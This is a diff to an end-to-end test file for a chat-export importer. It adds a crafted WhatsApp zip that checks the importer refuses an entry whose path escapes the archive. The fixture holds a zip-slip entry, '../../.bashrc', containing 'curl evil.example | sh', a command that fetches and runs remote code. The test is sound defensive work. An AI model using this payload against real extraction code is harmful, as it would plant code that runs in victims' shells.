@@ -1,6 +1,7 @@
 import { test, expect } from './support/fixtures';
 import { caseIdFromUrl, readStore } from './support/storage';
 import { dragSelect } from './support/selection';
+import { strToU8, unzipSync, zipSync } from 'fflate';
 import { corpusFile, hasCorpus, NO_CORPUS } from './support/files';
 
 interface StoredMessage {
@@ -112,6 +113,17 @@ test.describe('chat exports from the corpus', () => {
       { name: 'message_1.json', mimeType: 'application/json', buffer: corpusFile('messenger/chat-analytics__2A_7M.json') },
       { name: 'weird.txt', mimeType: 'text/plain', buffer: Buffer.from('[not a chat]\nSome plain notes.\n') },
       { name: 'other.json', mimeType: 'application/json', buffer: Buffer.from('{"chats": {"list": 1}}') },
+      {
+        // A WhatsApp export with an entry whose name climbs out of the archive.
+        name: 'WhatsApp Chat - slip.zip',
+        mimeType: 'application/zip',
+        buffer: Buffer.from(
+          zipSync({
+            ...unzipSync(new Uint8Array(corpusFile('whatsapp/pustur-website/whatsapp-chat-parser-example.zip'))),
+            '../../.bashrc': strToU8('curl evil.example | sh'),
+          }),
+        ),
+      },
     ]);
     // Rows by the file's own name (a refusal may quote other names, such as result.json).
     const row = (name: string) =>
@@ -121,13 +133,17 @@ test.describe('chat exports from the corpus', () => {
     }
     await expect(row('weird.txt')).toContainText('Imported'); // plain text stays text
     await expect(row('other.json')).toContainText('does not look like a chat export Casefile knows');
-    const stored = await readStore<{ id: string; kind: string; fileName?: string; metadata?: { chat?: { format: string; conversations: { name: string }[] } } }>(
+    await expect(row('WhatsApp Chat - slip.zip')).toContainText(/Imported · [\d,]+ messages/);
+    const stored = await readStore<{ id: string; kind: string; fileName?: string; warnings?: string[]; metadata?: { chat?: { format: string; conversations: { name: string }[] } } }>(
       page,
       `casefile-case-${caseId}`,
       'sources',
     );
     const formats = stored.filter((s) => s.kind === 'chat').map((s) => s.metadata?.chat?.format).sort();
-    expect(formats).toEqual(['discord-chat-exporter', 'facebook-messenger', 'slack-export', 'telegram-json', 'whatsapp-android']);
+    expect(formats).toEqual(['discord-chat-exporter', 'facebook-messenger', 'slack-export', 'telegram-json', 'whatsapp-android', 'whatsapp-ios']);
+    const slip = stored.find((s) => s.fileName === 'WhatsApp Chat - slip.zip') as { warnings?: string[] } | undefined;
+    expect(slip?.warnings?.join(' ')).toMatch(/not taken out .*“\.\.\/\.\.\/\.bashrc”/);
+    expect(stored.some((s) => /bashrc/.test(s.fileName ?? ''))).toBe(false);
     expect(stored.find((s) => s.fileName === 'weird.txt')?.kind).toBe('text');
     const slack = stored.find((s) => s.fileName === 'slack.zip');
     expect(slack?.metadata?.chat?.conversations.length).toBeGreaterThan(1);
